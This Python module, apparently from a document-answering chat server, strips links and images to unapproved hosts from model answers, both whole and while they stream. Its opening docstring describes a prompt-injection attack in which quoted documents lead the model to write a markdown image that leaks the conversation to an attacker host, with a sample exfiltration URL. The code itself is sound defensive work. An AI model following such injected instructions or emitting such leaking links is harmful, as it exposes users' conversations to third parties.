"""Answers quote documents, and documents are untrusted: an injected instruction can make the
model write a link or a markdown image that leaks the conversation to another host when a client
renders it (`![x](http://attacker/?q=...)`). Before an answer leaves the server, every link and
image whose host is not in `answer_link_hosts` (https only; none by default) is reduced to its
text, and so is every other form that names another host (`https:host`, `//host`, `\\\\host`,
a bare `host.com/path`): the checked answer by `neutralize_links`, the streamed raw text by
`StreamedLinks` (and the web page applies the same rule again as it renders,
`server/static/chat.js`)."""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# [label](target) and ![alt](target), with an optional "title". The whitespace runs and the
# target are possessive (`*+`): a target that never closes (`[a](` and 8000 spaces) fails in
# one pass instead of trying every split of the spaces (quadratic).
_LABEL_MAX = 500
_MARKDOWN_LINK = re.compile(
    rf"(!?)\[([^\]\n]{{0,{_LABEL_MAX}}})\]\(\s*+<?([^\s()<>]*+)>?(?:\s++\"[^\"\n]*+\")?\s*+\)"
)
# Anything a browser, a URL parser or a markdown autolinker would fetch or link as another
# host, up to the next space, quote or bracket:
# - `scheme://` and `scheme:\\` (browsers read a backslash as a slash);
# - a fetching scheme with no slashes at all (`https:host/x`: browsers add them);
# - `www.` hosts;
# - scheme-relative `//host`, UNC `\\host\share` and `/\host` at the start of a word or value;
# - a bare domain followed by a path, query or port (`attacker.com/leak?q=...`).
# Each branch starts at a bounded or anchored place, so the scan stays linear.
_SCHEMES_WITHOUT_SLASHES = "https?|ftps?|wss?|file|data|javascript|vbscript|blob"
_BARE_URL = re.compile(
    r"(?:[a-z][a-z0-9+.-]{0,31}:[/\\]{2}"
    rf"|(?<![a-z0-9+.-])(?:{_SCHEMES_WITHOUT_SLASHES}):"
    r"|(?<![a-z0-9])www\."
    r"|(?<![^\s=(\"'<>\[\]])[/\\]{2}(?=[^\s/\\<>()\[\]\"'])"
    r"|(?<![a-z0-9.-])(?:[a-z0-9-]{1,63}+\.)++[a-z]{2,63}+(?=/|\?|:\d))"
    r"[^\s<>()\[\]\"']++",
    re.IGNORECASE,
)
LINK_REMOVED = "[link removed]"


def allowed_url(url: str, hosts: Iterable[str]) -> bool:
    """An https URL to an allowed host, read the way a browser reads it (no backslash or
    control character, which browsers reinterpret, is accepted)."""
    if "\\" in url or any(not c.isprintable() or c.isspace() for c in url):
        return False
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    allowed = {h.lower() for h in hosts}
    return parts.scheme == "https" and (parts.hostname or "") in allowed


def neutralize_links(text: str, hosts: Iterable[str] = ()) -> str:
    """`text` with links and images to hosts outside `hosts` replaced by their label (or a
    note): no URL of another host is left for a client to fetch or a reader to click."""
    hosts = list(hosts)

    def markdown(match: re.Match[str]) -> str:
        image, label, target = match.group(1), match.group(2).strip(), match.group(3)
        if allowed_url(target, hosts):
            return match.group(0)
        label = _BARE_URL.sub(LINK_REMOVED, label)
        if image:
            return f"[image: {label}]" if label else "[image removed]"
        return label or LINK_REMOVED

    def bare(match: re.Match[str]) -> str:
        url = match.group(0)
        return url if allowed_url(url, hosts) else LINK_REMOVED

    text = _MARKDOWN_LINK.sub(markdown, text)
    # Bare URLs outside kept markdown links.
    out, last = [], 0
    for kept in _MARKDOWN_LINK.finditer(text):
        out.append(_BARE_URL.sub(bare, text[last : kept.start()]))
        out.append(kept.group(0))
        last = kept.end()
    out.append(_BARE_URL.sub(bare, text[last:]))
    return "".join(out)


# A held-back tail begins at an opening bracket (a markdown link's label) or at the start of
# the last word (a bare URL grows until whitespace).
_LAST_WORD = re.compile(r"\S*\Z")
_TARGET_MAX = 2000  # an open link target held longer than this is let go as text


class StreamedLinks:
    """`neutralize_links` for text that arrives in pieces. A link may arrive over several
    pieces (`![x](ht` + `tp://attacker/...)`), so the tail that could still become one (an
    open `[label](target`, or the last word, which may be a URL) is held back until it is
    complete or cannot be a link; what is released never holds a URL of another host.
    The released pieces joined are `neutralize_links` of the whole text in all but rare
    cases (a URL running into a bracket), and never less strict."""

    def __init__(self, hosts: Iterable[str] = ()) -> None:
        self.hosts = list(hosts)
        self._held = ""

    def add(self, piece: str) -> str:
        """What can be shown now that `piece` arrived (possibly nothing)."""
        self._held += piece
        cut = self._safe_cut(self._held)
        released, self._held = self._held[:cut], self._held[cut:]
        return neutralize_links(released, self.hosts) if released else ""

    def finish(self) -> str:
        """The rest, at the end of the stream."""
        rest, self._held = self._held, ""
        return neutralize_links(rest, self.hosts) if rest else ""

    @staticmethod
    def _safe_cut(text: str) -> int:
        """The start of the part of `text` that may still become part of a link."""
        last_word = _LAST_WORD.search(text)
        cut = last_word.start() if last_word else len(text)
        done = 0  # the end of the last complete link: released whole, with what precedes it
        for opening in re.finditer(r"!?\[", text):
            start = opening.start()
            if start < done:
                continue
            if start >= cut:
                break
            complete = _MARKDOWN_LINK.match(text, start)
            if complete:
                done = complete.end()
                cut = max(cut, done)
            elif StreamedLinks._may_become_link(text[start:]):
                return start
        return cut

    @staticmethod
    def _may_become_link(text: str) -> bool:
        """Whether `text`, which starts with `[` or `![` and is no complete markdown link,
        is the start of one that more text could complete."""
        label = text.find("[") + 1
        label_end = text.find("]")
        if label_end < 0:  # the label is open: it may close if it is no longer than a label
            return "\n" not in text and len(text) - label <= _LABEL_MAX
        rest = text[label_end + 1 :]
        if not rest:
            return True  # `(` may follow
        return rest.startswith("(") and ")" not in rest and len(rest) <= _TARGET_MAX
